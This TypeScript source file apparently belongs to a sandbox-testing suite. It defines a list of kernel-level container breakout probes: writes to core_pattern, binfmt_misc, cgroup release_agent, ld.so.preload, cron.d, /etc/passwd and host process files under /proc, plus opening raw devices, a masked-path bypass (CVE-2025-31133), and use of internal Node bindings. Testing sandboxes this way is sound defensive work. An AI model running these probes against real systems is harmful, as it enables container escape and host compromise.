import type { Attack } from "../attack.ts";

const attack = (id: string, title: string, javascript: string, python?: string): Attack => ({
  id: `kernel-${id}`,
  group: "kernel",
  title,
  breakout: true,
  javascript,
  ...(python === undefined ? {} : { python }),
});

/** Writes each path; a path that took the text was reached. */
const writes = (paths: string, text = "T.nonce"): string =>
  `const found = ${paths}.filter((path) => write(path, ${text}) === "written"); return found.length > 0 ? onHost(found) : "refused"`;
const pythonWrites = (paths: string, text = 'T["nonce"]'): string =>
  `found = [path for path in ${paths} if write(path, ${text}) == "written"]\nreturn on_host(found) if found else "refused"`;

/** Files by which the kernel is set, and devices by which it is reached. */
export const KERNEL_FILE_ATTACKS: readonly Attack[] = [
  attack(
    "core-pattern",
    "A program that the kernel runs for a crash",
    `return write("/proc/sys/kernel/core_pattern", "|/tmp/" + T.nonce)`,
    `return write("/proc/sys/kernel/core_pattern", "|/tmp/" + T["nonce"])`,
  ),
  attack(
    "settings",
    "Settings of the kernel",
    `return ["kernel/hostname", "kernel/domainname", "kernel/modprobe", "kernel/panic", "kernel/randomize_va_space", "vm/overcommit_memory", "fs/file-max"].map((name) => { const path = "/proc/sys/" + name; const now = read(path); return write(path, name.endsWith("name") ? T.nonce : now); })`,
    `return [write("/proc/sys/kernel/" + name, T["nonce"]) for name in ("hostname", "domainname", "modprobe")]`,
  ),
  attack(
    "binary-formats",
    "An interpreter for other people's programs",
    `return [write("/proc/sys/fs/binfmt_misc/register", ":" + T.nonce.slice(0, 20) + ":M::\\x7fNEVER::/tmp/x:C"), write("/sys/kernel/uevent_helper", "/tmp/" + T.nonce)]`,
    `return write("/proc/sys/fs/binfmt_misc/register", ":" + T["nonce"][:20] + ":M::NEVER::/tmp/x:C")`,
  ),
  attack(
    "system-request",
    "Keys of the console by file",
    writes('["/proc/sysrq-trigger"]', '"h"'),
    pythonWrites('("/proc/sysrq-trigger",)', '"h"'),
  ),
  attack(
    "devices",
    "Devices of the machine",
    `const found = ["/dev/kvm", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/loop-control", "/dev/fuse", "/dev/mapper/control", "/dev/cpu/0/msr", "/dev/vfio/vfio", "/dev/dri/card0", "/dev/snapshot", "/dev/uinput", "/dev/hpet"]
        .filter((path) => path !== "/dev/kvm" && typeof attempt(() => sys.fs.closeSync(sys.fs.openSync(path, "r"))) !== "string");
      if (attempt(() => sys.fs.accessSync("/dev/kvm", sys.fs.constants.R_OK)) === undefined) found.push("/dev/kvm");
      return found.length > 0 ? onHost(found) : "refused"`,
    `
      found = [path for path in ("/dev/kvm", "/dev/mem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/loop-control", "/dev/fuse", "/dev/vfio/vfio", "/dev/uinput") if os.access(path, os.R_OK)]
      return on_host(found) if found else "refused"`,
  ),
  attack(
    "cgroups",
    "The limits of its own cgroup, and a program that the kernel runs when one is empty",
    `const lines = read("/proc/self/cgroup").split("\\n"); const found = [];
      for (const line of lines) { const [, kinds = "", path = ""] = line.split(":"); for (const folder of ["/sys/fs/cgroup/" + kinds + path, "/sys/fs/cgroup" + path, "/sys/fs/cgroup/" + kinds, "/sys/fs/cgroup"]) for (const [file, text] of [["memory.limit_in_bytes", "-1"], ["memory.max", "max"], ["pids.max", "max"], ["release_agent", "/tmp/" + T.nonce], ["notify_on_release", "1"], ["cgroup.procs", "0"]]) if (write(folder + "/" + file, text) === "written") found.push(folder + "/" + file); attempt(() => sys.fs.mkdirSync("/sys/fs/cgroup/" + kinds + "/" + T.nonce)); }
      return found.length > 0 ? onHost(found.slice(0, 4)) : "refused"`,
    `
      found = []
      for line in read("/proc/self/cgroup").splitlines():
          parts = line.split(":")
          if len(parts) < 3: continue
          for folder in ("/sys/fs/cgroup/" + parts[1] + parts[2], "/sys/fs/cgroup" + parts[2], "/sys/fs/cgroup/" + parts[1]):
              for file, text in (("memory.limit_in_bytes", "-1"), ("memory.max", "max"), ("pids.max", "max"), ("release_agent", "/tmp/x"), ("cgroup.procs", "0")):
                  if write(folder + "/" + file, text) == "written": found.append(folder + "/" + file)
      return on_host(found[:4]) if found else "refused"`,
  ),
  attack(
    "masked-paths",
    "Paths that a container hides, by other names and links (CVE-2025-31133)",
    `const names = ["kcore", "keys", "timer_list", "sched_debug", "latency_stats", "scsi/scsi", "acpi/wakeup", "sysrq-trigger", "bus/pci/devices"];
      const found = names.flatMap((name) => ["/proc/", "/proc/self/../", "/proc/thread-self/../../", "/proc/self/root/proc/", "/proc/1/root/proc/"].filter((base) => ["kcore", "keys", "sched_debug"].includes(name) && /[a-z0-9]/i.test(read(base + name)) && !read(base + name).startsWith("refused")).map((base) => base + name));
      attempt(() => sys.fs.symlinkSync("/proc/sys/kernel/core_pattern", "/tmp/null-" + T.nonce)); const through = write("/tmp/null-" + T.nonce, "|" + T.nonce); attempt(() => sys.fs.unlinkSync("/tmp/null-" + T.nonce));
      return found.some((path) => path.includes("kcore")) ? onHost(found) : [found, through]`,
    `
      found = [base + name for base in ("/proc/", "/proc/self/root/proc/") for name in ("kcore", "sched_debug") if len(read(base + name)) > 10 and not read(base + name).startswith("refused")]
      return on_host(found) if found else "refused"`,
  ),
  attack(
    "proc-writes",
    "What /proc lets one write of other processes",
    `return [1, T.hostPid, T.canaryPid, sys.process.ppid].flatMap((pid) => [["oom_score_adj", "1000"], ["mem", "x"], ["attr/current", "x"], ["uid_map", "0 0 1"], ["loginuid", "0"], ["comm", T.nonce], ["clear_refs", "1"]].filter(([name, text]) => (pid === T.canaryPid || pid === T.hostPid) && write("/proc/" + pid + "/" + name, text) === "written").map(([name]) => name)).length > 0 ? { reached: "a process of the host" } : "refused"`,
    `return {"reached": "a process of the host"} if any(write("/proc/%d/%s" % (pid, name), "1000") == "written" for pid in (T["hostPid"], T["canaryPid"]) for name in ("oom_score_adj", "mem", "comm")) else "refused"`,
  ),
  attack(
    "library",
    "A library of its own, loaded into the process",
    `const path = "/tmp/lib-" + T.nonce + ".node"; write(path, "\\x7fELF not a library");
      const done = [attempt(() => sys.process.dlopen({ exports: {} }, path)), attempt(() => sys.process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6")), Object.keys(attempt(() => sys.process.binding("natives")) ?? {}).length];
      attempt(() => sys.fs.unlinkSync(path)); return done`,
    `
      path = "/tmp/lib-" + T["nonce"] + ".so"
      write(path, "not a library")
      done = attempt(ctypes.CDLL, path)
      attempt(os.unlink, path)
      return str(done)`,
  ),
  attack(
    "bindings",
    "The bindings inside Node: processes, pipes and files without the checks around them",
    `const names = ["spawn_sync", "process_wrap", "pipe_wrap", "tcp_wrap", "udp_wrap", "fs", "tty_wrap", "contextify", "worker", "cares_wrap", "inspector", "v8", "util", "buffer"];
      const done = names.map((name) => attempt(() => typeof sys.process.binding(name)));
      const ran = attempt(() => { const { spawn } = sys.process.binding("spawn_sync"); const out = spawn({ file: sys.process.execPath, args: [sys.process.execPath, "-e", "require('fs').writeFileSync(process.argv[1] + '/open.txt', 'x')", T.folder], envPairs: [], stdio: [{ type: "pipe", readable: true }, { type: "pipe", writable: true }, { type: "pipe", writable: true }] }); return out.status; });
      const socket = attempt(() => { const { TCP, TCPConnectWrap, constants } = sys.process.binding("tcp_wrap"); const tcp = new TCP(constants.SOCKET); return tcp.connect(new TCPConnectWrap(), "127.0.0.1", T.tcpPort); });
      return [done, ran, socket]`,
  ),
  attack(
    "boot",
    "What would run when the machine, or a user, starts next",
    writes(
      '["/etc/cron.d/" + T.nonce, "/etc/ld.so.preload", "/etc/profile.d/" + T.nonce, "/etc/passwd", "/etc/hosts", "/etc/resolv.conf", T.home + "/." + T.nonce, T.home + "/.ssh/" + T.nonce]',
    ),
    pythonWrites(
      '("/etc/cron.d/" + T["nonce"], "/etc/profile.d/" + T["nonce"], T["home"] + "/." + T["nonce"])',
    ),
  ),
  attack(
    "system-folders",
    "Switches of devices under /sys",
    writes(
      '["/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/module/printk/parameters/time", "/sys/kernel/profiling", "/sys/fs/selinux/enforce", "/sys/kernel/security/apparmor/.load"]',
      '"never"',
    ),
    pythonWrites(
      '("/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/profiling")',
      '"never"',
    ),
  ),
];
